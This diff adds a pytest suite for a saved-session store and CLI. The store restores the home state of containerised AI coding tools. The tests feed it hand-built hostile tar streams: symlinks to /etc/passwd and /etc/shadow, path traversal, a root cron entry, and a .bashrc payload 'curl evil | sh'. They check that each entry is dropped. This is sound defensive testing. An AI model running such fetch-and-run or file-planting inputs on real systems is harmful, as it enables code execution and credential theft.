@@ -1,0 +1,621 @@
+"""The saved-session store (lib/coi_common/saved_sessions.py) and coi-session, no daemon.
+
+Tar streams here are built by hand with tarfile, so they can hold what a
+hostile container could send: links, devices, FIFOs, absolute and `..` names,
+entries outside the tool's state. The real-container side is
+tests/integration/test_session_resume.py.
+"""
+
+import io
+import json
+import os
+import tarfile
+import time
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+
+from coi_common import config, protocol, saved_sessions, tools
+from coi_common.errors import BadInput, CoiError, NotFound
+from coi_common.saved_sessions import Session, StateWriter, Store
+from coi_session import __doc__ as SESSION_USAGE
+from coi_session import main as session_main
+from coi_shell import normalise_argv
+from coi_slot import listing
+
+pytestmark = pytest.mark.usefixtures("coi_env")
+
+WORKSPACE = "/home/ana/src/app"
+OTHER = "/home/ana/src/other"
+
+
+# -- helpers ------------------------------------------------------------------------------
+
+
+def member(name, kind=tarfile.REGTYPE, data=b"", linkname="", mode=0o644):
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.size = len(data) if kind == tarfile.REGTYPE else 0
+    info.linkname = linkname
+    info.mode = mode
+    info.mtime = 1_700_000_000
+    return info, data
+
+
+def stream(*members):
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
+        for info, data in members:
+            archive.addfile(info, io.BytesIO(data) if info.isreg() else None)
+    buffer.seek(0)
+    return buffer
+
+
+def feed(writer, buffer):
+    with tarfile.open(fileobj=buffer, mode="r|") as archive:
+        for info in archive:
+            writer.add(info, archive)
+    return writer.result
+
+
+def tree(root):
+    return sorted(str(p.relative_to(root)) for p in Path(root).rglob("*"))
+
+
+def make_session(store_root, session_id, *, tool="dummy", workspace=WORKSPACE,
+                 updated_at="2026-03-01T09:00:00.000000Z", files=None):
+    path = Path(store_root) / f"sessions-{tool}" / session_id
+    (path / "home").mkdir(parents=True)
+    for rel, text in (files or {".dummy/history": "one\n"}).items():
+        target = path / "home" / rel
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(text)
+    session = Session(id=session_id, tool=tool, workspace=workspace, updated_at=updated_at,
+                      created_at=updated_at, path=str(path))
+    (path / "metadata.json").write_text(json.dumps(session.metadata()))
+    return session
+
+
+@pytest.fixture
+def warnings():
+    return []
+
+
+@pytest.fixture
+def store(tmp_path, warnings):
+    return Store(str(tmp_path / "state"), on_warning=warnings.append)
+
+
+@pytest.fixture
+def home(tmp_path):
+    return tmp_path / "saving" / "home"
+
+
+# -- member names -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("name", "clean"), [
+    (".dummy/history", ".dummy/history"),
+    ("./.dummy/history", ".dummy/history"),
+    (".dummy//a/./b", ".dummy/a/b"),
+    (".dummy/", ".dummy"),
+    ("/etc/passwd", None),
+    ("../etc/passwd", None),
+    (".dummy/../../etc/passwd", None),
+    (".dummy/..", None),
+    ("", None),
+    (".", None),
+    ("a\0b", None),
+])
+def test_member_names_are_normalised_or_refused(name, clean):
+    assert saved_sessions.clean_member_name(name) == clean
+
+
+# -- the untrusted stream -------------------------------------------------------------------
+
+
+def test_regular_files_and_dirs_of_the_state_are_written(home):
+    writer = StateWriter(str(home), [".dummy"], [".dummy.json"])
+    result = feed(writer, stream(member(".dummy", tarfile.DIRTYPE),
+                                 member(".dummy/history", data=b"a\nb\n"),
+                                 member(".dummy/sub/deep", data=b"x"),
+                                 member(".dummy.json", data=b"{}")))
+    assert (home / ".dummy" / "history").read_bytes() == b"a\nb\n"
+    assert (home / ".dummy" / "sub" / "deep").read_bytes() == b"x"
+    assert (home / ".dummy.json").read_bytes() == b"{}"
+    assert (result.files, result.bytes, result.dropped) == (3, 7, [])
+
+
+def test_links_devices_fifos_and_unsafe_paths_are_dropped_and_counted(home, tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    writer = StateWriter(str(home), [".dummy"], [])
+    result = feed(writer, stream(
+        member(".dummy/evil", tarfile.SYMTYPE, linkname="/etc/passwd"),
+        member(".dummy/hard", tarfile.LNKTYPE, linkname="/etc/shadow"),
+        member(".dummy/fifo", tarfile.FIFOTYPE),
+        member(".dummy/null", tarfile.CHRTYPE),
+        member(".dummy/disk", tarfile.BLKTYPE),
+        member("/etc/cron.d/evil", data=b"* * * * * root sh"),
+        member(f"../../{outside.name}/planted", data=b"x"),
+        member(".bashrc", data=b"curl evil | sh"),
+        member(".dummy/ok", data=b"kept")))
+    assert tree(home) == [".dummy", ".dummy/ok"]
+    assert len(result.dropped) == 8
+    assert any("symlink" in d for d in result.dropped)
+    assert any("fifo" in d for d in result.dropped)
+    assert list(outside.iterdir()) == []
+
+
+def test_a_file_behind_a_dropped_symlink_never_leaves_home(home, tmp_path):
+    target = tmp_path / "target"
+    target.mkdir()
+    writer = StateWriter(str(home), [".dummy"], [])
+    result = feed(writer, stream(
+        member(".dummy/link", tarfile.SYMTYPE, linkname=str(target)),
+        member(".dummy/link/written", data=b"through the link?")))
+    assert list(target.iterdir()) == []
+    assert (home / ".dummy" / "link" / "written").read_bytes() == b"through the link?"
+    assert not (home / ".dummy" / "link").is_symlink()
+    assert len(result.dropped) == 1
+
+
+def test_the_state_dir_itself_as_a_symlink_saves_nothing(home):
+    writer = StateWriter(str(home), [".dummy"], [])
+    result = feed(writer, stream(member(".dummy", tarfile.SYMTYPE, linkname="/etc")))
+    assert tree(home) == []
+    assert result.files == 0
+    assert result.dropped == ["'.dummy' (symlink)"]
+
+
+def test_type_conflicts_are_dropped_not_followed(home):
+    writer = StateWriter(str(home), [".dummy"], [".dummy.json"])
+    result = feed(writer, stream(member(".dummy/x", data=b"file first"),
+                                 member(".dummy/x/y", data=b"under a file"),
+                                 member(".dummy.json", tarfile.DIRTYPE),
+                                 member(".dummy", data=b"state dir as a file")))
+    assert (home / ".dummy" / "x").read_bytes() == b"file first"
+    assert len(result.dropped) == 3
+
+
+def test_injected_credentials_are_skipped_and_counted_apart(home):
+    writer = StateWriter(str(home), [".dummy"], [], exclude=[".dummy/credentials.json"])
+    result = feed(writer, stream(member(".dummy/credentials.json", data=b"secret"),
+                                 member("./.dummy/./credentials.json", data=b"secret"),
+                                 member(".dummy/history", data=b"a\n")))
+    assert tree(home) == [".dummy", ".dummy/history"]
+    assert (result.excluded, result.dropped) == (2, [])
+
+
+def test_modes_are_owner_only_and_keep_the_execute_bit(home):
+    writer = StateWriter(str(home), [".dummy"], [])
+    feed(writer, stream(member(".dummy/hook.sh", data=b"#!/bin/sh\n", mode=0o4755),
+                        member(".dummy/data", data=b"x", mode=0o666)))
+    assert (home / ".dummy" / "hook.sh").stat().st_mode & 0o7777 == 0o700
+    assert (home / ".dummy" / "data").stat().st_mode & 0o7777 == 0o600
+
+
+def test_state_larger_than_the_limit_is_refused(home):
+    writer = StateWriter(str(home), [".dummy"], [], max_bytes=10)
+    with pytest.raises(CoiError, match="larger than"):
+        feed(writer, stream(member(".dummy/a", data=b"123456"), member(".dummy/b", data=b"78901")))
+
+
+# -- the store: reading -------------------------------------------------------------------
+
+
+def test_sessions_list_newest_first_by_updated_at(store):
+    make_session(store.root, "s-old", updated_at="2026-03-01T09:00:00.000000Z")
+    make_session(store.root, "s-new", updated_at="2026-03-01T09:00:00.500000Z")
+    make_session(store.root, "s-claude", tool="claude", updated_at="2026-03-02T00:00:00Z")
+    assert [s.id for s in store.sessions()] == ["s-claude", "s-new", "s-old"]
+    assert [s.id for s in store.sessions(tool="dummy")] == ["s-new", "s-old"]
+
+
+def test_corrupt_metadata_is_skipped_with_a_warning_naming_the_file(store, warnings):
+    make_session(store.root, "s-good")
+    bad = make_session(store.root, "s-bad")
+    Path(bad.path, "metadata.json").write_text("{not json")
+    assert [s.id for s in store.sessions()] == ["s-good"]
+    assert len(warnings) == 1
+    assert str(Path(bad.path, "metadata.json")) in warnings[0]
+    assert "\n" not in warnings[0]
+
+
+@pytest.mark.parametrize(("change", "problem"), [
+    ({"coi": 2}, "newer coi"),
+    ({"kind": "slot"}, "kind"),
+    ({"id": "s-elsewhere"}, "not its directory"),
+    ({"updated_at": "yesterday"}, "updated_at"),
+    ({"workspace": 3}, "no workspace"),
+    ({"tool": "claude"}, "sessions-dummy"),
+])
+def test_metadata_that_does_not_fit_is_skipped(store, warnings, change, problem):
+    session = make_session(store.root, "s-odd")
+    data = {**session.metadata(), **change}
+    Path(session.path, "metadata.json").write_text(json.dumps(data))
+    assert store.sessions() == []
+    assert problem in warnings[0]
+
+
+def test_a_session_directory_without_metadata_is_skipped(store, warnings):
+    (Path(store.root) / "sessions-dummy" / "s-empty").mkdir(parents=True)
+    assert store.sessions() == []
+    assert "no metadata.json" in warnings[0]
+
+
+def test_find_refuses_malformed_ids_and_reports_missing_ones(store):
+    with pytest.raises(BadInput, match="not allowed"):
+        store.find("../../etc")
+    with pytest.raises(NotFound):
+        store.find("s-none")
+
+
+def test_resume_without_id_takes_the_latest_of_this_workspace_and_tool_only(store):
+    make_session(store.root, "s-mine-old", updated_at="2026-03-01T09:00:00Z")
+    make_session(store.root, "s-mine-new", updated_at="2026-03-01T10:00:00Z")
+    make_session(store.root, "s-other-ws", workspace=OTHER, updated_at="2026-03-02T00:00:00Z")
+    make_session(store.root, "s-other-tool", tool="claude", updated_at="2026-03-03T00:00:00Z")
+    assert store.for_resume(WORKSPACE, "dummy").id == "s-mine-new"
+    assert store.for_resume("/home/ana/src/none", "dummy") is None
+
+
+def test_resume_by_id_refuses_another_workspace_and_another_tool(store):
+    make_session(store.root, "s-other-ws", workspace=OTHER)
+    make_session(store.root, "s-claude", tool="claude")
+    with pytest.raises(CoiError, match="another workspace"):
+        store.for_resume(WORKSPACE, "dummy", "s-other-ws")
+    with pytest.raises(BadInput) as caught:
+        store.for_resume(WORKSPACE, "dummy", "s-claude")
+    assert "--tool claude" in caught.value.one_line()
+    assert store.for_resume(OTHER, "dummy", "s-other-ws").id == "s-other-ws"
+
+
+# -- the store: saving ----------------------------------------------------------------------
+
+
+def fields(**extra):
+    return Session(id="", tool="dummy", workspace=WORKSPACE, updated_at="", slot=1,
+                   container="coi-1a2b3c4d-1", **extra)
+
+
+def staged(store, text):
+    tmp = store.new_tmp("dummy")
+    Path(tmp, "home", ".dummy").mkdir(parents=True)
+    Path(tmp, "home", ".dummy", "history").write_text(text)
+    return tmp
+
+
+def history(session):
+    return Path(session.home, ".dummy", "history").read_text()
+
+
+def test_a_first_save_creates_a_session_with_full_metadata(store):
+    session, how = store.commit(staged(store, "a\n"), fields())
+    assert how == "created"
+    data = json.loads(Path(session.path, "metadata.json").read_text())
+    protocol.validate(data, "session")
+    for key in ("id", "tool", "workspace", "workspace_hash", "slot", "container", "image",
+                "persistent", "created_at", "updated_at", "coi_version"):
+        assert key in data
+    assert data["created_at"] == data["updated_at"]
+    assert (data["ID"], data["SavedAt"], data["Workspace"]) == (
+        session.id, session.updated_at, WORKSPACE)
+    assert history(session) == "a\n"
+
+
+def test_saving_again_from_the_same_state_updates_the_same_session(store):
+    first, _ = store.commit(staged(store, "a\n"), fields())
+    second, how = store.commit(staged(store, "a\nb\n"), fields(), current_id=first.id,
+                               base=first.updated_at)
+    assert (how, second.id, second.created_at) == ("updated", first.id, first.created_at)
+    assert second.updated_at > first.updated_at
+    assert history(second) == "a\nb\n"
+    assert [s.id for s in store.sessions()] == [first.id]
+
+
+def test_a_save_from_a_stale_copy_forks_instead_of_overwriting(store):
+    first, _ = store.commit(staged(store, "a\n"), fields())
+    store.commit(staged(store, "a\nslot1\n"), fields(), current_id=first.id,
+                 base=first.updated_at)
+    forked, how = store.commit(staged(store, "a\nslot2\n"), fields(), current_id=first.id,
+                               base=first.updated_at)
+    assert how == "forked"
+    assert forked.id != first.id
+    assert forked.resumed_from == first.id
+    assert history(store.find(first.id)) == "a\nslot1\n"
+    assert history(forked) == "a\nslot2\n"
+
+
+def test_a_deleted_session_is_saved_again_under_its_id(store):
+    first, _ = store.commit(staged(store, "a\n"), fields())
+    store.delete(first)
+    again, how = store.commit(staged(store, "b\n"), fields(), current_id=first.id,
+                              base=first.updated_at)
+    assert (again.id, how) == (first.id, "created")
+
+
+def test_saves_leave_no_temp_dirs_and_the_lock_file_only(store):
+    first, _ = store.commit(staged(store, "a\n"), fields())
+    store.commit(staged(store, "b\n"), fields(), current_id=first.id, base=first.updated_at)
+    names = sorted(os.listdir(store.tool_dir("dummy")))
+    assert names == [".lock", first.id]
+
+
+def test_temp_dirs_of_dead_savers_are_removed_but_live_ones_kept(store):
+    live = staged(store, "in progress\n")
+    dead = Path(store.tool_dir("dummy"), ".tmp-999999999-abc")
+    dead.mkdir()
+    store.commit(staged(store, "a\n"), fields())
+    assert Path(live).exists()
+    assert not dead.exists()
+
+
+def test_without_renameat2_the_swap_still_works(store, monkeypatch):
+    monkeypatch.setattr(saved_sessions, "_exchange", lambda a, b: False)
+    first, _ = store.commit(staged(store, "a\n"), fields())
+    second, _ = store.commit(staged(store, "b\n"), fields(), current_id=first.id,
+                             base=first.updated_at)
+    assert history(second) == "b\n"
+
+
+def test_a_swap_cut_between_its_two_renames_is_put_back(store):
+    first, _ = store.commit(staged(store, "a\n"), fields())
+    folder = Path(store.tool_dir("dummy"))
+    (folder / first.id).rename(folder / f".old-{first.id}.1a2b3c4d")
+    assert store.sessions() == []
+    store.commit(staged(store, "other\n"), fields())
+    assert history(store.find(first.id)) == "a\n"
+
+
+def test_metadata_is_written_atomically(tmp_path):
+    folder = tmp_path / "session"
+    folder.mkdir()
+    target = folder / "metadata.json"
+    target.write_text('{"old": true}')
+    saved_sessions.write_json_atomic(str(target), {"new": True})
+    assert json.loads(target.read_text()) == {"new": True}
+    assert os.listdir(folder) == ["metadata.json"]
+
+
+# -- delete and prune -------------------------------------------------------------------------
+
+
+def test_delete_removes_the_directory(store):
+    session = make_session(store.root, "s-gone")
+    store.delete(session)
+    assert not Path(session.path).exists()
+    with pytest.raises(NotFound):
+        store.find("s-gone")
+
+
+def test_prune_keeps_the_newest_n_of_each_workspace(store):
+    for hour in range(4):
+        make_session(store.root, f"s-a{hour}", updated_at=f"2026-03-01T0{hour}:00:00Z")
+    make_session(store.root, "s-b", workspace=OTHER, updated_at="2026-01-01T00:00:00Z")
+    deleted = store.prune(keep=1)
+    assert [s.id for s in deleted] == ["s-a0", "s-a1", "s-a2"]
+    assert sorted(s.id for s in store.sessions()) == ["s-a3", "s-b"]
+
+
+def test_prune_older_than_deletes_by_updated_at_in_one_workspace(store):
+    recent = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
+    make_session(store.root, "s-old", updated_at="2020-01-01T00:00:00Z")
+    make_session(store.root, "s-recent", updated_at=recent)
+    make_session(store.root, "s-old-other", workspace=OTHER, updated_at="2020-01-01T00:00:00Z")
+    deleted = store.prune(older_than=timedelta(days=30), workspace=WORKSPACE)
+    assert [s.id for s in deleted] == ["s-old"]
+    assert sorted(s.id for s in store.sessions()) == ["s-old-other", "s-recent"]
+
+
+@pytest.mark.parametrize(("text", "seconds"), [("45s", 45), ("90m", 5400), ("12h", 43200),
+                                               ("30d", 2592000), ("2w", 1209600)])
+def test_durations(text, seconds):
+    assert saved_sessions.parse_duration(text).total_seconds() == seconds
+
+
+@pytest.mark.parametrize("text", ["", "30", "d", "-1d", "1.5h", "0d", "3y", "1 d"])
+def test_bad_durations_are_one_line_errors(text):
+    with pytest.raises(BadInput):
+        saved_sessions.parse_duration(text)
+
+
+# -- settings and credentials ---------------------------------------------------------------
+
+
+def test_deep_merge_merges_objects_key_by_key():
+    base = {"theme": "dark", "permissions": {"allow": ["Bash(ls)"]}, "list": [1]}
+    merged = saved_sessions.deep_merge(base, {"permissions": {"defaultMode": "bypass"},
+                                              "list": [2]})
+    assert merged == {"theme": "dark", "list": [2],
+                      "permissions": {"allow": ["Bash(ls)"], "defaultMode": "bypass"}}
+    assert base["permissions"] == {"allow": ["Bash(ls)"]}
+
+
+def host_file(rel, text):
+    path = Path(os.environ["HOME"]) / rel
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+
+
+def test_settings_keep_the_hosts_keys_and_permissions_and_add_cois(coi_env):
+    dummy = tools.load_registry()["dummy"]
+    host_file(".dummy/settings.json", '{"theme": "host", "permissions": {"allow": ["ls"]}}')
+    text = saved_sessions.merged_settings(dummy, b'{"inside": 1}', with_host=True)
+    assert json.loads(text) == {"inside": 1, "theme": "host", "managed_by": "coi",
+                                "permissions": {"allow": ["ls"], "mode": "autonomous"}}
+
+
+def test_settings_leave_the_host_out_when_credentials_are_not_injected(coi_env):
+    dummy = tools.load_registry()["dummy"]
+    host_file(".dummy/settings.json", '{"theme": "host"}')
+    text = saved_sessions.merged_settings(dummy, None, with_host=False)
+    assert "theme" not in json.loads(text)
+
+
+def test_a_settings_file_that_is_not_json_is_never_overwritten(coi_env, capsys):
+    dummy = tools.load_registry()["dummy"]
+    assert saved_sessions.merged_settings(dummy, b"[1, 2", with_host=False) is None
+    assert "not valid JSON" in capsys.readouterr().err
+
+
+def test_unchanged_settings_are_not_rewritten(coi_env):
+    dummy = tools.load_registry()["dummy"]
+    current = json.dumps({"managed_by": "coi", "permissions": {"mode": "autonomous"}}).encode()
+    assert saved_sessions.merged_settings(dummy, current, with_host=False) is None
+
+
+def test_credentials_come_only_from_the_listed_host_files(coi_env):
+    dummy = tools.load_registry()["dummy"]
+    host_file(".dummy/credentials.json", '{"token": "t"}')
+    host_file(".dummy/private-notes", "not for containers")
+    extras = saved_sessions.credential_extras(dummy)
+    assert [(e.rel, e.data, e.mode) for e in extras] == [
+        (".dummy/credentials.json", b'{"token": "t"}', 0o600)]
+
+
+def test_claude_credentials_follow_mount_claude_config_unless_the_tool_table_says(coi_env):
+    def injects(text):
+        (coi_env.config_home / "coi" ).mkdir(exist_ok=True)
+        (coi_env.config_home / "coi" / "config.toml").write_text(text)
+        settings = config.load(None)
+        claude = tools.registry_from_config(settings)["claude"]
+        return saved_sessions.injects_credentials(claude, settings)
+
+    assert injects("") is True
+    assert injects("[defaults]\nmount_claude_config = false\n") is False
+    assert injects("[defaults]\nmount_claude_config = false\n"
+                   "[tools.claude]\ninject_credentials = true\n") is True
+
+
+# -- the registry entries ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("name", "command", "state", "package"), [
+    ("aider", ["aider", "--yes-always", "--restore-chat-history"], (".aider",), "aider-chat"),
+    ("codex", ["codex", "--dangerously-bypass-approvals-and-sandbox", "resume", "--last"],
+     (".codex",), "@openai/codex"),
+    ("gemini", ["gemini", "--yolo", "--resume", "latest"], (".gemini",),
+     "@google/gemini-cli"),
+])
+def test_more_tools_are_data(name, command, state, package):
+    tool = tools.load_registry()[name]
+    assert tool.command(resume=True) == command
+    assert tool.state_dirs == state
+    assert tool.credential_files
+    assert tool.install.package == package
+
+
+def test_a_tools_settings_must_be_a_table_of_json_values():
+    with pytest.raises(BadInput, match="settings"):
+        tools.load_registry({"dummy": {"settings": "bypass"}})
+    assert tools.load_registry({"dummy": {"settings": {"a": {"b": [1]}}}})["dummy"].settings \
+        == {"a": {"b": [1]}}
+
+
+# -- coi-list compatibility ---------------------------------------------------------------------
+
+
+def test_coi_list_all_reads_the_metadata_written_here(store):
+    session, _ = store.commit(staged(store, "a\n"), fields())
+    found = listing.saved_sessions(os.path.join(store.root, "sessions"))
+    assert [s.to_json() for s in found] == [{"ID": session.id, "SavedAt": session.updated_at,
+                                            "Workspace": WORKSPACE, "Tool": "dummy"}]
+
+
+# -- command lines -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("argv", "expected"), [
+    (["--resume"], ["--resume"]),
+    (["--continue"], ["--resume"]),
+    (["--resume=s-1"], ["--resume", "--session", "s-1"]),
+    (["--continue=s-1", "--slot", "2"], ["--resume", "--session", "s-1", "--slot", "2"]),
+    (["run", "--resume", "--", "tool", "--continue=x"],
+     ["run", "--resume", "--", "tool", "--continue=x"]),
+    (["--resume="], ["--resume", "--session", ""]),
+])
+def test_resume_flags_are_normalised_for_docopt(argv, expected):
+    assert normalise_argv(argv) == expected
+
+
+def run_cli(argv, capsys):
+    with pytest.raises(SystemExit) as exited:
+        session_main(argv)
+    out, err = capsys.readouterr()
+    return exited.value.code, out, err
+
+
+def test_session_word_is_optional(coi_env, capsys, tmp_path):
+    state = coi_env.home / ".coi"
+    make_session(state, "s-one", workspace=str(tmp_path))
+    direct = run_cli(["list", "--workspace", str(tmp_path), "--format", "json"], capsys)
+    dispatched = run_cli(["session", "list", "--workspace", str(tmp_path), "--format", "json"],
+                         capsys)
+    assert direct == dispatched
+    assert json.loads(direct[1])["id"] == "s-one"
+
+
+def test_list_json_is_json_lines_and_stderr_names_the_corrupt_file(coi_env, capsys, tmp_path):
+    state = coi_env.home / ".coi"
+    make_session(state, "s-one", workspace=str(tmp_path), updated_at="2026-03-01T00:00:00Z")
+    make_session(state, "s-two", workspace=str(tmp_path), updated_at="2026-03-02T00:00:00Z")
+    broken = make_session(state, "s-broken", workspace=str(tmp_path))
+    Path(broken.path, "metadata.json").write_text("")
+    code, out, err = run_cli(["list", "--all", "--format", "json"], capsys)
+    assert code == 0
+    assert [json.loads(line)["id"] for line in out.splitlines()] == ["s-two", "s-one"]
+    assert err.count("\n") == 1
+    assert "s-broken/metadata.json" in err
+
+
+def test_latest_prints_the_id_and_fails_with_3_when_there_is_none(coi_env, capsys, tmp_path):
+    code, out, err = run_cli(["latest", "--workspace", str(tmp_path)], capsys)
+    assert (code, out) == (3, "")
+    assert err.count("\n") == 1
+    make_session(coi_env.home / ".coi", "s-one", workspace=str(tmp_path))
+    assert run_cli(["latest", "--workspace", str(tmp_path)], capsys)[:2] == (0, "s-one\n")
+
+
+def test_malformed_ids_are_one_line_errors_also_in_json(coi_env, capsys):
+    code, out, err = run_cli(["show", "../x", "--format", "json"], capsys)
+    assert code == 2
+    assert json.loads(out)["code"] == "bad_input"
+    assert err.count("\n") == 1
+
+
+def test_info_defaults_to_the_latest_of_the_workspace(coi_env, capsys, tmp_path,
+                                                       monkeypatch):
+    make_session(coi_env.home / ".coi", "s-old", workspace=str(tmp_path),
+                 updated_at="2026-01-01T00:00:00Z")
+    make_session(coi_env.home / ".coi", "s-new", workspace=str(tmp_path),
+                 updated_at="2026-02-01T00:00:00Z")
+    monkeypatch.chdir(tmp_path)
+    code, out, _ = run_cli(["info"], capsys)
+    assert code == 0
+    assert out.splitlines()[0].split() == ["session:", "s-new"]
+
+
+def test_delete_and_prune_print_what_they_deleted(coi_env, capsys, tmp_path):
+    for day in (1, 2, 3):
+        make_session(coi_env.home / ".coi", f"s-{day}", workspace=str(tmp_path),
+                     updated_at=f"2026-01-0{day}T00:00:00Z")
+    code, out, _ = run_cli(["delete", "s-3", "--format", "json"], capsys)
+    assert (code, json.loads(out)["kind"]) == (0, "session_deleted")
+    code, out, _ = run_cli(["prune", "--keep", "1", "--all", "--format", "json"], capsys)
+    assert [json.loads(line)["id"] for line in out.splitlines()] == ["s-1"]
+    code, out, _ = run_cli(["prune", "--keep", "x", "--all"], capsys)
+    assert code == 2
+
+
+def test_usage_documents_every_verb():
+    for verb in ("save", "restore", "list", "latest", "show", "delete", "prune", "info"):
+        assert f"[session] {verb}" in SESSION_USAGE or f"coi-session {verb}" in SESSION_USAGE
+
+
+def test_timestamps_order_saves_within_one_second():
+    first = saved_sessions.now_text()
+    time.sleep(0.001)
+    assert saved_sessions.parse_time(saved_sessions.now_text()) > \
+        saved_sessions.parse_time(first)
